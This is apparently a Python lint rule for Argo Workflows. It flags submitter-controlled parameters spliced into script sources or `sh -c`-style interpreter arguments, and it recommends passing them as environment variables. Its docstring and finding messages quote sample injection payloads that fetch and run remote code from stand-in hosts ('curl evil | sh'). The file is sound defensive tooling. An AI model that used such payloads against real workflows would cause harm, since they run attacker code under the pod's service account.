"""parameter-injection: a parameter the submitter controls, spliced into code.

Argo substitutes ``{{...}}`` tags as plain text before the pod starts. In ``script.source``,
or in the script of ``sh -c``/``bash -c`` (and ``python -c``, ``node -e`` ...), the value
becomes code: ``'; curl evil | sh #`` runs with the pod's service account. Passed as an
environment variable or a positional argument, the same value stays data.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from argolint.analysis.expr import tags_in
from argolint.analysis.pods import Container, pods_of
from argolint.analysis.submitted import compute, submitted_parameters
from argolint.context import Context
from argolint.finding import Finding, Related, Severity
from argolint.rules import rule
from argolint.source.loader import Document
from argolint.source.nodes import YMapping, YNode, YScalar

#: Interpreters and the flag after which their code comes as one argument.
CODE_FLAGS = {
    "sh": "c",
    "bash": "c",
    "ash": "c",
    "dash": "c",
    "zsh": "c",
    "ksh": "c",
    "python": "c",
    "python2": "c",
    "python3": "c",
    "node": "e",
    "perl": "e",
    "ruby": "e",
}
_SHORT_FLAGS = re.compile(r"-[A-Za-z]+\Z")
_VERSIONED = re.compile(r"(python|perl|ruby)[0-9.]*\Z")


def _interpreter(token: str) -> str | None:
    base = token.strip().rsplit("/", 1)[-1]
    match = _VERSIONED.match(base)
    base = match.group(1) if match else base
    return base if base in CODE_FLAGS else None


def code_strings(container: Container) -> Iterator[tuple[YScalar, str]]:
    """(scalar, what) for each string of the container that is code: a script's source, the
    argument after ``-c``/``-e`` of an interpreter in command + args."""
    node = container.node
    source = node.get("source")
    if container.role == "script" and isinstance(source, YScalar):
        yield source, "the script's source"
    tokens: list[YScalar] = []
    for key in ("command", "args"):
        seq = node.sequence(key)
        if seq is not None:
            tokens.extend(t for t in seq.items if isinstance(t, YScalar))
    interpreter = None
    for i, token in enumerate(tokens):
        text = token.text
        if interpreter is None:
            interpreter = _interpreter(text)
            continue
        if _SHORT_FLAGS.match(text) and CODE_FLAGS[interpreter] in text[1:]:
            if i + 1 < len(tokens):
                yield tokens[i + 1], f"the `{interpreter} {text}` script"
            return
        if not text.startswith("-"):
            return  # a script file or a subcommand: no inline code


@rule(
    "parameter-injection",
    category="security",
    severity="warning",
    summary="A submitter-controlled parameter is spliced into a script or `sh -c` command.",
    kinds=("Workflow", "WorkflowTemplate", "ClusterWorkflowTemplate", "CronWorkflow"),
)
def check(ctx: Context) -> Iterator[Finding]:
    submitted = ctx.analysis(submitted_parameters)
    events = _event_bindings(ctx)
    # What the events' payloads reach: parameters they set from an expression, not a constant.
    event_set = {n for doc, _ in events for n in _event_parameters(doc)}
    from_events = compute(ctx.manifest, event_set) if event_set else None
    trigger = ""
    related: list[Related] = []
    if events:
        names = ", ".join(f"`{doc.name}`" for doc, _ in events[:3])
        trigger = (
            f"; WorkflowEventBinding {names} submits it from events, so whoever can send "
            "such an event chooses the value"
        )
        related = [
            ctx.related(node, "submits this template on events", doc) for doc, node in events
        ]
    for container in ctx.analysis(pods_of).containers:
        template = container.pod.template
        if template is None or container.placement.embedded:
            continue
        for scalar, what in code_strings(container):
            if not isinstance(scalar.value, str) or "{{" not in scalar.value:
                continue
            for tag in tags_in(scalar):
                hit = next((r for r in tag.refs if submitted.controls(r, template)), None)
                if hit is None:
                    continue
                name = hit.parts[2]
                env = re.sub(r"[^A-Za-z0-9]+", "_", name).upper().strip("_") or "VALUE"
                by_event = from_events is not None and any(
                    from_events.controls(r, template) for r in tag.refs
                )
                yield ctx.finding(
                    tag.span(scalar),
                    f"`{tag.text}` is pasted into {what} of the {container.describe} as code; "
                    f"`{hit.name}` is set by whoever submits the workflow, so a value like "
                    "`$(curl attacker | sh)` or `'; ...` runs with the pod's service account"
                    + (trigger if by_event else ""),
                    suggestion=f"pass it as data: `env: [{{name: {env}, value: "
                    f'"{tag.text}"}}]` and read `${env}` (quoted) in the script, or pass it '
                    "as a positional argument after the script (`$1`)",
                    severity=Severity.ERROR if by_event else None,
                    related=related if by_event else [],
                )


#: An event expression that is a literal: the event cannot choose the value.
_CONSTANT = re.compile(r"""\s*(?:"[^"\\]*"|'[^'\\]*'|-?\d+(?:\.\d+)?|true|false|nil)\s*""")


def _event_parameters(doc: Document) -> set[str]:
    """The workflow parameters a WorkflowEventBinding sets from its event (``valueFrom.event``
    with an expression over the payload, not a literal)."""
    root = doc.root
    spec = root.mapping("spec") if isinstance(root, YMapping) else None
    submit = spec.mapping("submit") if spec else None
    arguments = submit.mapping("arguments") if submit else None
    seq = arguments.sequence("parameters") if arguments else None
    names = set()
    for param in seq.mappings() if seq else ():
        value_from = param.mapping("valueFrom")
        expression = value_from.str("event") if value_from else None
        name = param.str("name")
        if name and expression and not _CONSTANT.fullmatch(expression):
            names.add(name)
    return names


def _event_bindings(ctx: Context) -> list[tuple[Document, YNode]]:
    """WorkflowEventBindings of the project that submit this (Cluster)WorkflowTemplate, with
    their ``workflowTemplateRef.name`` node."""
    kind = ctx.doc.kind
    if kind not in ("WorkflowTemplate", "ClusterWorkflowTemplate") or ctx.doc.name is None:
        return []
    found = []
    for doc in ctx.project.of_kind("WorkflowEventBinding"):
        root = doc.root
        spec = root.mapping("spec") if isinstance(root, YMapping) else None
        submit = spec.mapping("submit") if spec else None
        ref = submit.mapping("workflowTemplateRef") if submit else None
        name = ref.get("name") if ref else None
        if not isinstance(name, YScalar) or name.text != ctx.doc.name or ref is None:
            continue
        cluster = ref.scalar("clusterScope") is True
        if cluster != (kind == "ClusterWorkflowTemplate"):
            continue
        elsewhere = None not in (doc.namespace, ctx.doc.namespace)
        if not cluster and elsewhere and doc.namespace != ctx.doc.namespace:
            continue
        found.append((doc, name))
    return found
